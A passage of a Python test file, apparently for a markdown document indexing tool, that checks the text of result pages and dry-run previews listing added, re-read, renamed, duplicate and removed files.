    told = "a (2).md1 chunk. a.md is there already with other content, so this one was added as a (2).md;"
    assert told in Page(results_html([beside], 1)).text
    assert told in Page(results_html([*(FileResult(f"{number}.md", True, "1 chunk") for number in range(120)), beside], 121)).text


def test_a_dry_run_lists_what_would_happen() -> None:
    changes = Changes(
        {"new.md": STATE, "old.md": STATE},
        frozenset(["old.md"]),
        {"was.md": FileEntry("is.md", STATE)},
        {"twin.md": FileEntry("twin.md", STATE, same_as="old.md")},
        removed=["gone.md"],
        unchanged=4,
    )
    text = Page(changes_html(changes)).text
    assert "nothing was done yet. 4 files unchanged." in text
    for line in (
        "Would be added: 1new.md",
        "Would be read again: 1old.md",
        "Would get another name: 1is.md was was.md",
        "Has the same content as another: 1twin.md as old.md",
        "Would be removed from the index: 1gone.md",
    ):
        assert line in text
    assert "A sync would change nothing. 1 file unchanged." in Page(changes_html(Changes(unchanged=1))).text
